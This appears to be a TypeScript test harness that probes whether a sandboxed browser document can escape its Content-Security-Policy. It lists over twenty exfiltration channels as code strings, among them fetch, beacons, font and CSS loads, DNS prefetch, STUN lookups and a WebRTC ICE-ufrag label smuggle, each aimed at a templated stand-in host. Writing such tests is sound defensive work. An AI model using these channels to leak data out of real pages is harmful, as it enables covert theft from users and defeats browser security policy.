// Ways out of a document, as somebody would try them who owns it: the frame's real headers, or some of them, around a
// script of the test's that hardens nothing. What is held here is held by the browser's policies alone.

import { createHash } from "node:crypto";

export interface Channel {
  title: string;
  realm: "frame" | "worker";
  /** Body of an async function. `{{…}}` as in the attack probes; `U` makes a script's address, `add` an element. */
  code: string;
  /** Takes its document away, so it has one to itself. */
  leaves?: boolean;
  /** The one engine that does it unasked; in the other there is nothing to hold. */
  only?: "Chrome" | "Firefox";
}

const AT = '"{{http}}/{{label}}"';

const both = (title: string, code: string): Channel[] => [
  { title, realm: "frame", code },
  { title, realm: "worker", code },
];
const frame = (title: string, code: string, rest: Partial<Channel> = {}): Channel => ({
  title,
  realm: "frame",
  code,
  ...rest,
});

/** The name of a STUN server is looked up, and the server asked. */
const STUN = `
  const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:{{dns}}:{{udp}}" }] }); p.createDataChannel("x");
  await p.setLocalDescription(await p.createOffer());`;

/** WebRTC's first packet to a peer carries a name that the attacker chose (RFC 8445, section 7.2.2). */
const PEER = `
  const p = new RTCPeerConnection(); p.createDataChannel("x");
  const o = await p.createOffer(); await p.setLocalDescription(o);
  const sdp = o.sdp.replace(/a=ice-ufrag:.*/, "a=ice-ufrag:{{label}}").replace(/a=setup:.*/, "a=setup:active")
    + "a=candidate:1 1 udp 2122260223 127.0.0.1 {{udp}} typ host\\r\\n";
  await p.setRemoteDescription({ type: "answer", sdp });`;

export const CHANNELS: readonly Channel[] = [
  ...both("fetch", `await fetch(${AT}, { mode: "no-cors" })`),
  ...both("XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", ${AT}); x.send()`),
  ...both("WebSocket", 'new WebSocket("{{ws}}/{{label}}")'),
  ...both("EventSource", `new EventSource(${AT})`),
  frame("WebTransport", 'await new WebTransport("https://{{dns}}:{{port}}/").ready'),
  { title: "importScripts", realm: "worker", code: `importScripts(U(${AT} + ".js"))` },
  frame("sendBeacon", `navigator.sendBeacon(${AT}, "x")`),
  frame("import()", `await import(U(${AT} + ".js"))`),
  frame("an image", `new Image().src = ${AT}`),
  frame("a style sheet", `add("link", { rel: "stylesheet", href: ${AT} + ".css" })`),
  frame("CSS url()", `add("style", { textContent: "body{background:url({{http}}/{{label}})}" })`),
  frame("a font", `const f = new FontFace("q", "url({{http}}/{{label}})"); document.fonts.add(f); await f.load()`),
  frame("a script element", `add("script", { src: U(${AT} + ".js") })`),
  frame("a video", `add("video", { src: ${AT}, preload: "auto" })`),
  // Firefox fetches these when it has nothing else to do, which no test waits for.
  frame("link prefetch", `add("link", { rel: "prefetch", href: ${AT} })`, { only: "Chrome" }),
  frame("link preconnect", 'add("link", { rel: "preconnect", href: "http://{{dns}}:{{port}}/" })'),
  frame("link dns-prefetch", 'add("link", { rel: "dns-prefetch", href: "http://{{dns}}:{{port}}/" })'),
  // Chromium waits for the mouse.
  frame("an anchor's host", 'add("a", { href: "http://{{dns}}:{{port}}/", textContent: "x" })', { only: "Firefox" }),
  frame("a nested frame", `add("iframe", { src: ${AT} })`),
  frame("WebRTC to a STUN server", STUN),
  // Firefox sends to no peer on this machine.
  frame("WebRTC to a peer", PEER, { only: "Chrome" }),
  // To another host than the page's, whose own frames it may show.
  frame("its own navigation", 'location.href = "http://{{dns}}:{{port}}/{{label}}"', { leaves: true }),
];

const HELPERS = `
const tt = self.trustedTypes?.createPolicy("belljar-worker", { createScriptURL: (x) => x });
const U = (x) => (tt ? tt.createScriptURL(x) : x);
const add = (tag, more) => (document.body ?? document.documentElement).append(Object.assign(document.createElement(tag), more));
const all = (list) => { for (const each of list) each().catch(() => {}); };`;

const list = (codes: string[]): string => `all([${codes.map((code) => `async () => {${code}\n}`).join(",\n")}]);`;

/** A document's script that tries these ways, whose codes are filled already, in its own realm and in a worker. */
export function script(frames: string[], workers: string[]): string {
  return `${HELPERS}
try {
  new Worker(U(URL.createObjectURL(new Blob([${JSON.stringify(`${HELPERS}\n${list(workers)}`)}]))));
} catch {}
${list(frames)}`;
}

/** The document, and the source that a policy must name for its script to run. */
export function page(text: string): { body: string; source: string } {
  return {
    body: `<!doctype html><html><head><meta charset="utf-8"></head><body><script>${text}</script></body></html>`,
    source: `sha256-${createHash("sha256").update(text).digest("base64")}`,
  };
}

/** Headers as the server sends them, but for this script. */
export function naming(headers: Record<string, string>, source: string): Record<string, string> {
  const csp = headers["content-security-policy"];
  return csp ? { ...headers, "content-security-policy": csp.replace(/'sha256-[^']+'/, () => `'${source}'`) } : headers;
}
